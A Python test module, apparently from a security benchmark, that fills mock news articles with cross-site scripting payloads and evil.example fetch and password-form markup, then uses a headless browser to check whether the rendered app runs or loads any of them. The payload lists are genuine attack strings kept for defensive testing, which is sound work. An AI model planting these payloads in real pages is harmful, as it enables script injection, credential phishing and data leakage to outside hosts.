"""Articles whose every field tries to be more than text, and a walk through the page that shows all of them."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

from benchmarks.torture.site import Site, browsing

if TYPE_CHECKING:
    from playwright.sync_api import Page

ELSEWHERE = "evil.example"
_RUN = "window.pwned=1"
TAGS = (
    "<img src=x onerror={run}>",
    "<script>{run}</script>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<marquee onstart={run}>x</marquee>",
    "<a href='javascript:{run}'>x</a>",
    "<form action='javascript:{run}'><button>Log in</button></form>",
    "<form action=http://evil.example/><input name=password type=password></form>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red' onmouseover={run}>x</div>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={run}>x</p>",
    "<template><img src=x onerror={run}></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "[x](javascript:{run})",
    '![x](x"onerror="{run})',
    "${{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "&lt;img src=x onerror={run}&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "<base href=http://evil.example/><script src=x.js></script>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link rel=stylesheet href=http://evil.example/x.css onload={run}>",
    "<button class=open-claim id='open-claim-x' autofocus onfocus={run}>x</button>",
    "<p data-action=ask data-question=x onpointerenter={run}>x</p>",
)
_BEFORE = ("", "\"'></td></table></button></div></article>", "--></textarea></title></script>")
_FETCHES = (
    "![x](http://evil.example/{n}.png)",
    "<img src=http://evil.example/{n}.png>",
    "<img srcset='http://evil.example/{n}.png 1x'>",
    "<div style='background:url(http://evil.example/{n}.png)'>x</div>",
    "<style>*{{background:url(http://evil.example/{n}.png)}}</style>",
    "<style>@import 'http://evil.example/{n}.css';</style>",
    "<link rel=stylesheet href=http://evil.example/{n}.css>",
    "<link rel=preload as=image href=http://evil.example/{n}.png>",
    "<link rel=prefetch href=http://evil.example/{n}>",
    "<link rel=dns-prefetch href=//{n}.evil.example>",
    "<iframe src=http://evil.example/{n}></iframe>",
    "<object data=http://evil.example/{n}></object>",
    "<embed src=http://evil.example/{n}>",
    "<video poster=http://evil.example/{n}.png src=http://evil.example/{n}.mp4 autoplay></video>",
    "<audio src=http://evil.example/{n}.mp3 autoplay></audio>",
    "<svg><image href=http://evil.example/{n}.png /></svg>",
    "<svg><use href='http://evil.example/{n}.svg#x' /></svg>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/{n}'>",
    "<script src=http://evil.example/{n}.js></script>",
    "<input type=image src=http://evil.example/{n}.png>",
    "<body background=http://evil.example/{n}.png>",
    "<table background=http://evil.example/{n}.png><tr><td>x</td></tr></table>",
    "<track src=http://evil.example/{n}.vtt>",
    "<form action=http://evil.example/{n}><button autofocus>x</button></form>",
    "[![x](http://evil.example/{n}.png)](http://evil.example/{n})",
    "![x][{n}]\u2003[{n}]: http://evil.example/{n}.png",
    "<img src=//evil.example/{n}.png>",
    "<img src=x onerror=\"fetch('http://evil.example/{n}')\">",
    "<a href=http://evil.example/{n} ping=http://evil.example/{n}>x</a>",
    "<picture><source srcset=http://evil.example/{n}.webp><img src=http://evil.example/{n}.png></picture>",
)
_SYLLABLES = ("bar", "del", "fen", "gol", "hus", "jor", "kel", "lum", "mar", "nov")


def scripts(number: int) -> list[str]:
    """Payloads that run a script, send a form or lie over the page."""
    return [before + tag.format(run=_RUN) for before in _BEFORE for tag in TAGS][:number]


def fetches(number: int) -> list[str]:
    """Payloads that would fetch something from another host without a click."""
    return [before + tag.format(n=n) for before in _BEFORE[:2] for n, tag in enumerate(_FETCHES)][:number]


def speaker(number: int) -> str:
    """A surname of its own for the speaker of an article."""
    tens, ones = divmod(number % 100, 10)
    return f"{_SYLLABLES[tens].title()}{_SYLLABLES[ones]}sen"


def hostile_articles(payloads: Sequence[str]) -> dict[str, str]:
    """An article for each payload, with it in the outlet, the address, the headline, names, roles and quotations."""
    return {
        f"article{n:03}": (
            f"Outlet: Lantern {n} {payload}\nDate: 2026-02-05\nURL: https://lantern.example/{n}?{payload}\n\n"
            f"Bread {payload} in week {n}\n\n"
            f"“Bread will cost more {payload} from Monday,” said Tilda {speaker(n)}, a baker {payload} of Veltport.\n\n"
            f"{speaker(n)} denied that flour was dear. According to Guild {payload}, bread was cheap.\n"
        )
        for n, payload in enumerate(payloads)
    }


@dataclass(slots=True)
class Seen:
    """What a walk through the page met; `shown` are numbers of payloads whose text stood there as text."""

    executed: int = 0
    foreign: list[str] = field(default_factory=list)
    elements: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    shown: set[int] = field(default_factory=set)
    surfaces: int = 0


_FOUND = """() => {
  const tags = ['FORM', 'IFRAME', 'OBJECT', 'EMBED', 'SCRIPT', 'STYLE', 'LINK', 'META', 'BASE', 'IMG', 'VIDEO', 'AUDIO',
    'TEMPLATE', 'NOSCRIPT', 'MARQUEE'];
  const runs = (address) => {  // what stands in the query of another address does not
    return URL.canParse(address) && ['javascript:', 'vbscript:'].includes(new URL(address).protocol)
  };
  return [...document.querySelectorAll('.panel *')].filter(one =>
    tags.includes(one.tagName.toUpperCase()) && !one.matches('.note-form')
    || [...one.attributes].some(it => it.name.startsWith('on') || it.name !== 'title' && runs(it.value))
    || one.matches('[autofocus], [type=password], #open-claim-x, [data-question=x]')
    || one.getAttribute('style')?.includes('fixed')).map(one => one.outerHTML.slice(0, 120))
}"""
_UNSAFE = "http://127.0.0.1:9/"  # nobody listens there: the browser is answered by the test
_MARKUP = re.compile("<[a-z]")


def missed(payloads: Sequence[str]) -> list[str]:
    """Of the payloads that are HTML, those that the look at a page does not find where they are let through.

    None, or the look proves nothing. Each is put as markup into the panel of a page that forbids nothing; one that a
    browser makes no element of there is no loss.
    """
    through = []
    with browsing() as context:
        page = context.new_page()
        page.route("**", lambda route: route.fulfill(content_type="text/html", body="<div class=panel></div>"))
        for payload in filter(_MARKUP.search, payloads):
            page.goto(_UNSAFE)
            page.evaluate("payload => { document.querySelector('.panel').innerHTML = payload }", payload)
            seen = Seen()
            _look(page, [payload], seen)
            if not seen.executed and not seen.elements and page.locator(".panel *").count():
                through.append(payload)
    return through


def walk(site: Site, payloads: Sequence[str]) -> Seen:
    """Ask about each article, open its evidence, and look at all claims and parties."""
    seen = Seen()
    with browsing() as context:
        page = context.new_page()
        page.on("request", lambda request: _note(request.url, seen))
        page.on("dialog", lambda dialog: (seen.errors.append("a dialog"), dialog.dismiss()))
        page.goto(site.address)
        page.locator("#question textarea").wait_for()
        for n in range(len(payloads)):
            if n % 10 == 0 and n:  # a conversation that stays short enough to be looked at often
                page.goto(site.address)
                page.locator("#question textarea").wait_for()
            turn = page.locator(".turn").count()
            page.fill("#question textarea", f"What did {speaker(n)} say about bread?")
            page.press("#question textarea", "Enter")
            page.locator(f"#turn-{turn} .actions").wait_for()
            _look(page, payloads, seen)
        for tab, table in (("Claims", "claims"), ("Parties", "parties")):
            page.get_by_role("tab", name=tab).click()
            page.locator(f"table.{table}-table").wait_for()
            for _ in _pages(page, table):
                _look(page, payloads, seen)
    return seen


def _pages(page: Page, table: str) -> Iterator[None]:
    while True:
        page.wait_for_timeout(300)
        yield
        on = page.locator(f"#{table}-on")
        if on.is_disabled():
            return
        before = page.locator(f"#{table}-position").inner_text()
        on.click()
        page.wait_for_function(
            "([id, before]) => document.getElementById(id).innerText !== before", arg=[f"{table}-position", before]
        )


def _look(page: Page, payloads: Sequence[str], seen: Seen) -> None:
    page.wait_for_timeout(100)
    seen.surfaces += 1
    seen.executed += page.evaluate("window.pwned === undefined ? 0 : 1")
    seen.elements += page.evaluate(_FOUND)
    if not page.locator(".panel").count():
        seen.errors.append("a view without a panel to look into")
    text = page.evaluate("document.body.textContent")
    seen.shown |= {n for n, payload in enumerate(payloads) if payload[:40] in text}
    if urlsplit(page.url).hostname != "127.0.0.1":
        seen.foreign.append(page.url)


def _note(address: str, seen: Seen) -> None:
    parts = urlsplit(address)
    if parts.scheme not in {"data", "blob"} and parts.hostname != "127.0.0.1":
        seen.foreign.append(address)


def look_at(folder: Path, payloads: Sequence[str]) -> Seen:
    """Index the articles of these payloads, serve them, and walk through the page."""
    from benchmarks.torture.site import serving

    with serving(folder, articles=hostile_articles(payloads)) as site:
        return walk(site, payloads)
